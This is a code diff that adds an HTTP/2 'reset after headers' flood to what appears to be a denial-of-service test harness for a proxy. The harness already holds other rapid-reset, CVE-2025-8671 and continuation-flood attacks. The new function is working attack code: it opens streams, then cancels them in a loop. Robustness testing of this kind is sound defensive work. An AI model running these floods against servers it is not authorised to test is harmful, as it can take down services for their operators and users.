@@ -168,6 +168,30 @@ def rapid_reset_burst(c, until):
             batch = []
 
 
+def reset_after_headers(c, until):
+    """Rapid reset once each response has begun: twenty streams of a body the origin
+    sends slowly, cancelled as soon as their response heads came, again and again.
+    The proxy learns of each reset only when it next has body to send, so the work
+    of cancelled streams outlives them unless the proxy bounds it."""
+    sid = 1
+    while time.monotonic() < until and not c.done():
+        first = sid
+        want = c.responses + 20
+        if not c.send([c.headers(s, path="/slow") for s in range(first, first + 40, 2)]):
+            return
+        sid += 40
+        t = time.monotonic()
+        while c.responses < want and time.monotonic() - t < 1.0 and not c.done():
+            time.sleep(0.005)
+        resets = []
+        for s in range(first, sid, 2):
+            r = RstStreamFrame(s)
+            r.error_code = 8
+            resets.append(r)
+        if not c.send(resets):
+            return
+
+
 def made_you_reset(c, until):
     """CVE-2025-8671: frames that make the server reset each stream itself (a window
     overflow, a stream depending on itself), so no RST_STREAM comes from the client."""
@@ -320,6 +344,7 @@ def window_one(c, until):
 ATTACKS = {
     "rapid_reset": (rapid_reset, {}),
     "rapid_reset_burst": (rapid_reset_burst, {}),
+    "reset_after_headers": (reset_after_headers, {}),
     "made_you_reset": (made_you_reset, {}),
     "data_on_closed": (data_on_closed, {}),
     "continuation_flood": (continuation_flood, {}),
